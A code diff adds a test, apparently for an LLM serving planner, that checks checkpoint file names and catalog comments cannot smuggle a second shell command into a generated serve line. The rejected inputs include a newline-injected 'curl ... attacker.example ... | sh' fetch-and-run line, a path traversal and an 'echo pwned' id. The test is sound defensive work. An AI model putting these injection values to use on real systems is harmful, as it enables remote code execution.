@@ -150,3 +150,25 @@ def test_plan_serves_gpt_oss_in_its_native_mxfp4(cat):
     assert rec["serve_command"].startswith("vllm serve openai/gpt-oss-120b ")
     assert "--quantization" not in rec["serve_command"]
     assert not any(o.precision == "fp8" for o in r["_search"]["ranked"])
+
+
+def test_a_catalog_text_cannot_smuggle_a_second_command_into_the_serve_line():
+    """Attacker review: a checkpoint file name with a line break, carried into the comment after `#`,
+    ran as its own command. File names follow a grammar, and the comment holds no line break."""
+    import shlex
+    import subprocess
+
+    from pydantic import ValidationError
+
+    from llmplan.catalog.schema import Checkpoint
+    from llmplan.planner.serve_config import shell_comment
+
+    for bad in ("x-{QUANT}.gguf\ncurl -s http://attacker.example/x | sh\n#", "../../etc/x.gguf", "a b.gguf"):
+        with pytest.raises(ValidationError):
+            Checkpoint(id="acme/acme-8b-GGUF", precision="q4_k_m", file=bad)
+    with pytest.raises(ValidationError):
+        Checkpoint(id="acme/x\necho pwned", precision="q4_k_m")
+    note = "see x\necho INJECTED\r\u2028\u202e# done"
+    line = f"{shlex.join(['true', 'a b'])}  # {shell_comment(note)}"
+    out = subprocess.run(["bash", "-c", line], capture_output=True, text=True)
+    assert out.returncode == 0 and "INJECTED" not in out.stdout
